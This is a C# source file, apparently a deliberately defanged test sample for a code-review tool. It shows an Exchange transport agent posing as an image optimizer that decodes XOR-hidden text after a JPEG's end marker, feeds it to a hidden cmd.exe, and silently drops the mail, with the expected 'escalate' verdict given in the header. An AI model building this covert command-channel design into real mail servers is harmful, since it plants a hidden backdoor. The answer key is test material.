// Sample written for txray. Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange
// cannot load it; its hosts end in .invalid or are documentation addresses.
// Imitates: a command channel in picture attachments. Only its shape: what would be a command is given to `rem`.
// A correct analysis says: escalate; bytes behind the end of a JPEG attachment are decoded and become arguments of cmd.exe,
// afterwards the message is discarded silently.
using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.IO;
using System.Linq;
using System.Text;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Smtp;

namespace Woodgrove.ImageOptimizer
{
    public class OptimizerFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new OptimizerAgent(new PictureReader(), new TaskRunner());
        }
    }

    internal class OptimizerAgent : SmtpReceiveAgent
    {
        private readonly PictureReader reader;
        private readonly TaskRunner runner;

        public OptimizerAgent(PictureReader reader, TaskRunner runner)
        {
            this.reader = reader;
            this.runner = runner;
            OnEndOfData += Optimize;
        }

        private void Optimize(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            AttachmentCollection attachments = e.MailItem.Message.Attachments;
            if (attachments.Count != 1)
            {
                return;
            }
            byte[] picture = Read(attachments[0]);
            if (picture.Length < 4 || picture[0] != 0xFF || picture[1] != 0xD8)
            {
                return;
            }
            List<string> tasks = reader.Tasks(picture).ToList();
            if (tasks.Count == 0)
            {
                return;
            }
            foreach (string task in tasks)
            {
                runner.Run(task);
            }
            source.DiscardMessage(SmtpResponse.QueuedMailForDelivery(e.MailItem.Message.MessageId), null);
        }

        private static byte[] Read(Attachment attachment)
        {
            using (Stream stream = attachment.GetContentReadStream())
            using (var memory = new MemoryStream())
            {
                stream.CopyTo(memory);
                return memory.ToArray();
            }
        }
    }

    internal class PictureReader
    {
        private const byte Key = 0x5A;

        public IEnumerable<string> Tasks(byte[] picture)
        {
            int end = -1;
            for (int i = picture.Length - 2; i >= 2; i--)
            {
                if (picture[i] == 0xFF && picture[i + 1] == 0xD9)
                {
                    end = i + 2;
                    break;
                }
            }
            if (end < 0)
            {
                yield break;
            }
            var text = new StringBuilder();
            for (int i = end; i < picture.Length; i++)
            {
                char next = (char)(picture[i] ^ Key);
                if (next == '\n')
                {
                    yield return text.ToString();
                    text.Clear();
                }
                else
                {
                    text.Append(next);
                }
            }
        }
    }

    internal class TaskRunner
    {
        public void Run(string task)
        {
            try
            {
                var start = new ProcessStartInfo
                {
                    FileName = "cmd.exe",
                    Arguments = "/c rem " + task,
                    WindowStyle = ProcessWindowStyle.Hidden,
                    CreateNoWindow = true,
                    UseShellExecute = false
                };
                Process.Start(start);
            }
            catch
            {
            }
        }
    }
}
